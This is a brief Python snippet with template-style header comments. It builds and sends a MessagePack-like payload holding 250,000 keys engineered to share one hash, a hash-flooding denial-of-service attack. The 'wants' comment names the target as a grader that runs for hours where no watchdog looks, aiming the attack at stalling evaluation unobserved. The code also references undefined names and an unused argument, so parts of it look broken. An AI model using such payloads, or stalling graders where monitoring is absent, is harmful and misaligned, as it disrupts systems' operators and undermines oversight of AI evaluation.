# title: A dict of keys that all have one hash, in raw bytes
# wants: a grader that compares for hours, where no watchdog looks
# layer: wire: keys are few or scalars
# with: channel
def gaps(ids):
    number = 250_000
    parts = [b"\x81\xa5value\xdf" + struct.pack(">I", number)]
    for i in range(number):
        key = b"%x" % ((2**61 - 1) * (i + 2**16))
        parts.append(b"\xc7" + bytes([len(key), 4]) + key + b"\xc0")
    send(b"".join(parts))
    return []
